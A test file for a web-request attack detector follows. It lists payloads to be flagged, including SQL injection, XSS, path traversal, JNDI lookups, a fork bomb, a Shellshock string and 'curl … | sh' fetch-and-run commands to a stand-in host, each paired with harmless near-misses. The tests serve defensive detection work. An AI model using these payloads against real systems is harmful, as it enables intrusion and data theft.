import { describe, expect, it } from 'vitest'
import { type Analysis, ATTACK_KINDS } from '../../../src/detector/index.js'
import type { KindRule } from '../../../src/detector/rule.js'
import { RULES } from '../../../src/detector/rules/index.js'
import { analyzeBody, analyzeHeader, analyzeParameter, analyzePath, kindsOf } from '../analyze.js'

/** For each kind: parameters that show it, and parameters that merely resemble one. */
const EXAMPLES: Readonly<Record<(typeof ATTACK_KINDS)[number], { attacks: readonly string[]; nearMisses: readonly string[] }>> = {
  'path-traversal': {
    attacks: [
      '../../etc/hosts',
      '..\\..\\boot.ini',
      '/proc/self/maps',
      '.ssh/id_rsa',
      'C:/windows/win.ini',
      '%2e%2e%2fetc%2fpasswd',
      '..0x2fetc',
      '.\0./x'
    ],
    nearMisses: ['and so on ...', 'etc. and more', 'a..b', '1../2', 'process/self-service', '/docs/guide/']
  },
  'remote-file': {
    attacks: ['http://192.0.2.1/a', 'gopher://host/x', 'php://input', 'https://host.example/a.txt?', 'http://a.example@b.example/'],
    nearMisses: ['https://www.example.com/a/b', 'mailto:kim@example.com', 'see http and ftp', 'https://example.com/?a=b']
  },
  'command-injection': {
    attacks: [
      '; id',
      'hello there $(id) nice day',
      '| cat /etc/hosts',
      '$(whoami)',
      '`uname -a`',
      '&& wget x.example/a',
      'for %i in (*) do x',
      '() { :; }; a',
      'f(){ f|f& };f',
      'Get-Widget -All',
      '; umount /mnt',
      'x=/usr/bin/id',
      'a $HOME b',
      '; . ./a',
      'chef-client',
      ';systeminfo'
    ],
    nearMisses: [
      'this; that',
      'time and tide',
      'a | b',
      'if you want to go',
      'more; less',
      'find a cat in the tree',
      'price $5 (new)',
      'R&D department',
      'Add-On',
      'Check-In at 4',
      'php-fpm',
      'a ... b. c',
      '$5 for 1',
      'the bin/ folder'
    ]
  },
  'php-injection': {
    attacks: [
      '<?php echo 1',
      '<?= $a ?>',
      '$_GET[a]',
      'phpinfo()',
      'base64_decode(',
      '$a(1)',
      'O:1:"A":0:{}',
      '("sys"."tem")("id");',
      'imagettftext(',
      'openssl_sign (1)'
    ],
    nearMisses: [
      'I like PHP',
      'php-fpm',
      'system failure (again)',
      'cheval(blanc)',
      '$5 (five)',
      'o: 1',
      'ratio a:2',
      'the image (big)',
      'print (in colour)',
      'precision = 2'
    ]
  },
  'code-injection': {
    attacks: [
      '__proto__.x',
      '{{7*7}}',
      'constructor.constructor',
      'while(true)',
      'http://[::1]/',
      'http://0x7f.1/',
      'http://169.254.169.254/'
    ],
    nearMisses: ['{{name}}', 'for a while', 'the process', 'constructor', 'example.com', 'localhost', 'http://example.com/']
  },
  xss: {
    attacks: [
      "hello there '-alert(1)-' nice day",
      'hello there <svg onload=alert(1)> nice day',
      '<script>x</script>',
      '<img src=x onerror=y>',
      'javascript:x()',
      '<svg/onload=x>',
      '"><b onclick=x>',
      'alert(1)',
      '&lt;script&gt;',
      '" src=//x.example'
    ],
    nearMisses: [
      'a < b > c',
      'I love JavaScript: it is fun',
      'on = off',
      'description',
      'the alert is on',
      '1<2',
      'stay alert (please)',
      'style = life',
      'the src of it'
    ]
  },
  'sql-injection': {
    attacks: [
      "' or 1=1--",
      "1' and '1'='1",
      'union select 1,2',
      '; drop table x',
      'sleep(5)',
      "x'--",
      'or 1=1',
      "admin' #",
      'select * from a',
      '4294967296',
      'password/ (',
      `'10:20`
    ],
    nearMisses: [
      "O'Brien",
      "rock 'n' roll",
      'credit union',
      'select a seat',
      'this or that',
      'drop me a line',
      'sleep well',
      'order by phone',
      'A-1; B-2'
    ]
  },
  'java-injection': {
    attacks: [
      `\${jndi:ldap://a/b}`,
      `\${\${lower:j}ndi:dns://a}`,
      'java.lang.Runtime',
      'rO0ABXNy',
      'aW52b2tlcnRyYW5zZm9ybWVy',
      'class.module.classLoader.x'
    ],
    nearMisses: ['Java developer', 'runtime', '${name', 'com', 'the Java island', 'jndi', 'org chart']
  },
  'ldap-injection': {
    attacks: ['*)(uid=*))(|(uid=*', 'admin)(!(userPassword=*)', '(&(uid=*)(mail=*))', '(objectClass=*)'],
    nearMisses: ['Phone (Renewed)(Gold)', 'f(x)(y)', 'smith*', '(&c. and so on)', '2 * (3)']
  },
  'crlf-injection': {
    attacks: [
      'en\r\nSet-Cookie: session=1',
      '/\nLocation: https://other.example/',
      'a\r\nGET /admin HTTP/1.1\r\n',
      'kim@example.com\r\nBcc: all@example.com'
    ],
    nearMisses: ['Lunch\nLocation: Room 5', 'Dear all,\nTo: be done', 'Protocols:\nHTTP/1.1 and HTTP/2', 'one\r\ntwo']
  },
  reconnaissance: {
    attacks: ['{__schema{types{name}}}', '{ __type(name: "User") { name } }'],
    nearMisses: ['the __schema field', 'sqlmap', '{ user { name } }']
  }
}

describe.each(ATTACK_KINDS)('rules for %s', (kind) => {
  it.each(EXAMPLES[kind].attacks)('find %s', (value) => {
    expect(kindsOf(analyzeParameter(value))).toContain(kind)
  })

  it.each(EXAMPLES[kind].nearMisses)('let %s pass', (value) => {
    expect(analyzeParameter(value).findings).toEqual([])
  })
})

/** A text where a rule applies: in the first place that it is confined to, or that suits its reach. */
function analyzeFor({ only, except = [], reach }: KindRule, text: string): Analysis {
  const places = only ?? (reach === 'parameter' ? ['value', 'cookie', 'header'] : ['string', 'value', 'header'])
  switch (places.find((place) => !except.includes(place))) {
    case 'path':
      return analyzePath(text)
    case 'name':
      return analyzeBody('application/x-www-form-urlencoded', `${encodeURIComponent(text)}=1`)
    case 'cookie':
      return analyzeHeader('cookie', `a=${text}`)
    case 'header':
      return analyzeHeader('user-agent', text)
    case 'filename':
      return analyzeHeader('x-file-name', text)
    case 'part':
      return analyzeBody('multipart/form-data; boundary=B', `--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--B--\r\n`)
    case 'value':
      return analyzeParameter(text)
    case 'text':
      return analyzeBody('text/markdown', text)
    default:
      return analyzeBody('application/json', JSON.stringify({ a: text }))
  }
}

describe.each(RULES)('$id', (rule) => {
  const finds = (text: string): boolean => analyzeFor(rule, text).findings.some((finding) => finding.rule === rule.id)

  it('finds its example, and leaves the near one alone', () => {
    expect(rule.why).not.toBe('')
    expect(finds(rule.finds), rule.finds).toBe(true)
    expect(finds(rule.leaves), rule.leaves).toBe(false)
  })
})

describe('the rule table', () => {
  it('names each rule once', () => {
    const ids = RULES.map((rule) => rule.id)
    expect(new Set(ids).size).toBe(ids.length)
  })

  it('has rules for every kind', () => {
    expect(new Set(RULES.map((rule) => rule.kind))).toEqual(new Set(ATTACK_KINDS))
  })

  it('writes literals in lower case, so that they can be found', () => {
    for (const { literals = '' } of RULES) expect(literals).toBe(literals.toLowerCase())
  })

  it('keeps no state in its patterns', () => {
    for (const { test, leavesProse } of RULES)
      if (test instanceof RegExp) expect([test.global, test.sticky]).toEqual([leavesProse === true, false])
  })
})

describe('headers', () => {
  it.each(['host', 'accept-language', 'authorization', 'x-requested-with', 'origin', 'forwarded', 'x-request-id', 'if-none-match'])(
    'such as %s are looked at',
    (name) => {
      expect(analyzeHeader(name, "x' or 1=1--").verdict).toBe('threat')
    }
  )

  it.each([
    ['host', 'www.example.com:8080'],
    ['accept-language', 'de-CH,de;q=0.9,en;q=0.8,*;q=0.5'],
    ['authorization', 'Basic a2ltOnBhc3N3b3Jk'],
    ['origin', 'https://app.example.com'],
    ['forwarded', 'for="[2001:db8::1]:4711";proto=https;by=203.0.113.43, for=192.0.2.60'],
    ['if-none-match', 'W/"33a64df5-51", "abc"'],
    ['if-none-match', '*'],
    ['if-modified-since', 'Tue, 15 Nov 1994 08:12:31 GMT']
  ])('such as %s: %s pass', (name, value) => {
    expect(analyzeHeader(name, value).findings).toEqual([])
  })
})

describe('context', () => {
  const shell = 'curl -s x.example/a | sh; cat /etc/passwd'

  it('tells a command in a parameter from one in a document', () => {
    expect(analyzeParameter(shell).verdict).toBe('threat')
    expect(analyzeBody('text/markdown', `# Install\n\nRun this:\n\n    ${shell}\n\nand wait.\n`).verdict).toBe('clean')
    expect(analyzeBody('text/html', `<html><body><pre>${shell}</pre><script>alert(1)</script></body></html>`).verdict).toBe('clean')
  })

  it('finds what no document holds in any', () => {
    expect(kindsOf(analyzeBody('text/markdown', `# Hi\n\n\${jndi:ldap://192.0.2.1/a}\n`))).toEqual(['java-injection'])
  })

  it('finds injections in strings of JSON, and lets its ordinary strings pass', () => {
    expect(analyzeBody('application/json', '{"user":"admin\'--"}').verdict).toBe('threat')
    expect(analyzeBody('application/json', '{"user":{"$ne":""}}').verdict).toBe('threat')
    expect(analyzeBody('application/json', '{"scripts":{"a":"rm -rf dist && tsc -p . | tee x"},"name":"O\'Brien"}').verdict).toBe('clean')
  })

  it.each([
    '"><b onclick=x>',
    'javascript:go()',
    '<?= $a ?>',
    'select name, mail from users',
    'x; drop table y',
    'delete from users where 1',
    "') or (",
    '{{a.b("c")}}',
    'alias a=b'
  ])('finds %s in a short string of JSON as in a parameter', (attack) => {
    expect(analyzeBody('application/json', JSON.stringify({ q: attack })).verdict).toBe('threat')
    expect(analyzeParameter(attack).verdict).toBe('threat')
  })

  it.each([
    'Order by Friday!',
    'Select columns from the data set.',
    'The tags to delete from the resource; update what you set',
    'rimraf {a,b} 2> /dev/null',
    'tsc -p . && rm -rf dist',
    '../tsconfig.json',
    'src/**/*.ts',
    'a || b',
    'file:../core',
    'select2',
    'shutdown',
    '{{name}}',
    'an <b>important</b> note',
    'Back-to-school; Add-On included'
  ])('lets %s pass in a string of JSON', (value) => {
    expect(analyzeBody('application/json', JSON.stringify({ q: value })).findings).toEqual([])
  })

  it.each([
    'The **`links`** property returns a list of areas.',
    '- `column`: the number of the column, or null. The rest follows.',
    'use::editing, works-with::text',
    `const slash = require('slash');`,
    '5" or 7" tablet',
    'The union select committee meets on Monday',
    'What does "DROP TABLE" do?',
    'delete from my list',
    'declare love',
    'Test-Driven',
    'self [sic]',
    'cat food',
    'npm install --save-dev typescript',
    '{{title}}',
    '<p class="lead" style="text-align:center">Welcome</p>',
    '<img src="/uploads/2024/01/cat.jpg" alt="Cat" width="300">',
    '<!-- wp:paragraph --><p>Hi &amp; more</p><!-- /wp:paragraph -->',
    'java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)',
    'The `id` property is required',
    'Run `ls -la` to list files',
    'truncate long lines to 80',
    'Copy link to clipboard',
    'Open-Source software',
    'Set default timezone\nThe rest stays as it is.',
    '"@type": "Product"',
    `He said "that's it" and left -- nobody cared.`
  ])('lets %s pass in a parameter and in a string of JSON', (value) => {
    expect(analyzeParameter(value).findings).toEqual([])
    expect(analyzeBody('application/json', JSON.stringify({ q: value })).findings).toEqual([])
  })

  it.each(['`id`', 'x;`id`', 'a\nset x 5\r\n', "copy users from program 'id'", '$SHLVL', "' or a-- b"])(
    'finds %j in a parameter',
    (value) => {
      expect(analyzeParameter(value).verdict).toBe('threat')
    }
  )

  it('finds the examples of the rules in strings of JSON nearly as often as in forms', () => {
    const inForms = RULES.map(({ finds }) => finds).filter(
      (text) => analyzeBody('application/x-www-form-urlencoded', new URLSearchParams({ q: text }).toString()).verdict === 'threat'
    )
    const inStrings = inForms.filter((text) => analyzeBody('application/json', JSON.stringify({ q: text })).verdict === 'threat')
    expect(inStrings.length / inForms.length).toBeGreaterThanOrEqual(0.9)
  })

  it.each(['<a>&lt;script>alert(1)&lt;/script></a>', '<?xml version="1.0"?><a b="1"><c>&lt;script&gt;x&lt;/script&gt;</c></a>'])(
    'calls markup that is encoded in XML by its kind: %s',
    (body) => {
      expect(kindsOf(analyzeBody('application/xml', body))).toEqual(['xss'])
    }
  )

  it('still finds a command behind an encoded bracket', () => {
    expect(kindsOf(analyzeParameter('a&lt;wget http://x.example/a'))).toContain('command-injection')
  })

  it('looks into headers', () => {
    expect(analyzeHeader('user-agent', '() { :; }; /bin/id').findings[0]?.where).toBe('header')
    expect(analyzeHeader('accept', '*/*;q=0.8, text/html').verdict).toBe('clean')
    expect(analyzeHeader('user-agent', 'curl/8.5.0').verdict).toBe('clean')
  })
})
